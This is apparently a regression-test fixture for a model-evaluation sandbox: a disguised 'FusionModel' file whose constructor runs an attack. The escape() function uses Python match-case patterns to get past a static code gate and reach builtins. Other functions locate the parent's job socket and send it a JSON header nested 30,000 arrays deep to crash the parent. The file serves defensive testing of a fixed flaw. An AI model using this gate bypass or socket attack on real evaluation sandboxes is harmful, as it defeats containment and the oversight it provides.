"""Adversarial candidate against the trusted parent (found by an outside red-team pass, fixed):
a frame header nested 30,000 arrays deep (json.loads raised RecursionError in the parent). The parent must record a result, never crash.

Expected: static policy on -> rejected; static policy off -> contained.
Placeholders replaced by the test: "MARKER_DIR", "TASK_DIR", 47474 (listener port).
"""

import torch
import torch.nn as nn
import torch.nn.functional as F

STATE = {}


def escape():
    """Static-gate escape: class-pattern keyword attributes are never checked by the gate. From a
    tensor reach numpy, from numpy reach builtins.object (numpy.ma.core.ntypes.object), a class
    every value matches, and from there any attribute: __globals__ -> __builtins__."""
    arr = None
    match torch.zeros(2):
        case torch.Tensor(numpy=a):
            arr = a()
    ns = None
    s = arr.sum()
    match s:
        case arr.dtype.type(__array_namespace__=b):
            ns = b()
    anything = ns.ma.core.ntypes.object
    g = None
    match escape:
        case anything(__globals__=h):
            g = h
    bi = g["__builtins__"]
    if not isinstance(bi, dict):
        match bi:
            case anything(__dict__=d):
                bi = d
    return bi


def tools():
    B = escape()
    return B["__import__"], B["getattr"], B


def leak(what):
    raise RuntimeError("ESCAPED " + str(what)[:3000])


def probe(report):
    raise RuntimeError("PROBE " + repr(report)[:6000])


def find_job_socket(imp, ga):
    os = imp("os")
    stat = imp("stat")
    sk = imp("socket")
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return ga(sk, "socket")(fileno=fd)
        except OSError:
            pass
    return None


def raw_frame(header_bytes, payload=b""):
    n = len(header_bytes)
    return b"AFWIRE01" + bytes([(n >> 24) & 255, (n >> 16) & 255, (n >> 8) & 255, n & 255]) + header_bytes + payload


def attack_init(self):
    imp, ga, B = tools()
    time = imp("time")
    s = find_job_socket(imp, ga)
    depth = 30000
    header = b'{"type": "smoke_ok", "params": 1, "flops": 1, "x": ' + b"[" * depth + b"]" * depth + b"}"
    s.sendall(raw_frame(header))
    time.sleep(30)



class FusionModel(nn.Module):
    def __init__(self, input_shapes, num_classes):
        super().__init__()
        self.names = list(input_shapes)
        self.k = num_classes
        width = 0
        for shape in input_shapes.values():
            n = 1
            for d in shape:
                n = n * int(d)
            width = width + n
        self.head = nn.Linear(width, num_classes)
        if "init" not in STATE:
            STATE["init"] = True
            attack_init(self)
        if "setup" in STATE:
            STATE["setup"](self)

    def forward(self, **inputs):
        x = torch.cat([inputs[n].flatten(1) for n in self.names], dim=1)
        if "hook" in STATE:
            out = STATE["hook"](self, x, inputs)
            if out is not None:
                return out
        return self.head(x)
